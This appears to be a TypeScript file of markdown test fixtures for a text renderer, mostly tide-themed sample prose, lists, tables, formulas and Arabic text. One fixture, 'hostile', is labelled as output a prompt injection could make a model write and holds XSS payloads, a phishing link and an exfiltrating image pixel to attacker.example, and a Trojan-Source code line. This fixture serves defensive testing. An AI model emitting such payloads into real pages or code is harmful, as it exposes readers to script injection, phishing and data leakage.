export const textForms = `# Tides
Twice a day the water **rises and falls**, and twice a month it does so *more than usual*. ~~Nobody knows why.~~

## What pulls

The Moon, mostly. Code such as \`tide(t)\` stands within a line.

### Spring and neap

> When Sun and Moon pull together, the tide is a **spring tide**.
>
> > Half a week later it is a neap tide.

---

#### Where it matters

In harbours, and on *every* beach.`;

export const lists = `1. Look at the table.
2. Add an hour of summer time.
   - not in winter
   - not in Iceland

     which has none
3. Ask the harbour master.

The loose kind:

- High water at 04:10.

  It stays for half an hour.

- Low water at 10:32.

  > Wear boots.

Still to do:

- [x] buy boots
- [ ] find the other boot`;

export const code = `The height at a time:

\`\`\`ts title="tide.ts"
/** Metres above chart datum. */
export function tide(hours: number, range = 1.8): number {
  const phase = (2 * Math.PI * hours) / 12.42; // twice a lunar day
  return range / 2 + (range / 2) * Math.cos(phase);
}
console.log(\`\${tide(3).toFixed(2)} m\`);
\`\`\`

What changed since:

\`\`\`diff
-const range = 1.8;
+const range = await measure(harbour);
\`\`\`

- in a list, too:

  \`\`\`sh
  npm install tides
  \`\`\``;

export const table = `| Harbour | High | Low | Range |
| :-- | :-: | :-: | --: |
| Bergen | 04:10 | 10:32 | 1.1 m |
| Saint-Malo | 06:58 | 13:41 | 12.2 m |
| Burntcoat Head, on the Bay of Fundy | 01:20 | 07:35 | 14.5 m |`;

/** Columns of every size. */
export const columns = `| No. | Harbour | When the water is highest | What one sees there |
| --: | :-- | :-- | :-- |
| 1 | Bergen | a day after the new moon | Quays that are wet to the last step, and boats above them |
| 2 | Saint-Malo | two days after it | Ramparts |

| No. | What one sees there |
| --: | :-- |
| 1 | Quays that are wet to the last step, and boats above them |

| Harbour | When the water is highest |
| :-- | :-- |
| Bergen | A day after the new moon |`;

export const matrix = `Turning by an angle:

$$
\\begin{pmatrix} x' \\\\ y' \\end{pmatrix} = \\begin{pmatrix} \\cos\\theta & -\\sin\\theta \\\\ \\sin\\theta & \\cos\\theta \\end{pmatrix} \\begin{pmatrix} x \\\\ y \\end{pmatrix}
$$`;

export const formulas = `The height is a sum of waves, $h(t) = \\sum_i A_i \\cos(\\omega_i t + \\varphi_i)$, each with a period of its own:

$$
\\frac{2\\pi}{\\omega_{M_2}} = 12.42\\,\\mathrm{h}
$$

Beers at $5 and $6 are no formula.`;

export const footnoted = `The highest tides are those of the Bay of Fundy[^1], and nobody measured them before 1770[^who].

[^1]: Burntcoat Head, 14.5 m on average.
[^who]: A surveyor whose name the book does not tell. He came back twice, once with a longer pole.`;

/** Text that a prompt injection could make a model write. All of it is shown as text, without an effect. */
export const hostile = `<img src=x onerror="alert(1)"> stands as text, and so does
<script>alert(1)</script>

<iframe src="https://attacker.example"></iframe>

[A link to a script](javascript:alert(1)) cannot be pressed. [my-bank.example](https://attacker.example/login) says where it goes.

![A picture that would tell who reads this](https://attacker.example/pixel.png?secret=42)

Control signs are written out: here\u0007there.

\`\`\`js
if (level !== 'user\u202e \u2066// only for admins\u2069 \u2066') grant();
\`\`\``;

export const withPictures = (own: string): string => `A picture of the site itself is shown:

![Hills at dawn](${own})

One of another site asks first:

![The harbour, seen from above](https://pictures.example/harbour.jpg)`;

/** As long as a chapter: settled blocks are left alone, and laid out only near the view. */
export const chapter = Array.from({ length: 60 }, (_, at) =>
  [`## ${at + 1}. ${at % 2 ? 'Ebb' : 'Flood'}`, textForms.split('\n\n')[1], lists, at % 3 ? table : code].join('\n\n'),
).join('\n\n');

export const arabicText = `## المدّ والجزر

يرتفع الماء **مرتين** في اليوم، وتقول الدالة \`tide(t)\` متى.

1. انظر في الجدول.
2. أضف ساعة في الصيف.

> البس حذاءك العالي.

| الميناء | المدّ |
| :-- | --: |
| بيرغن | 04:10 |`;
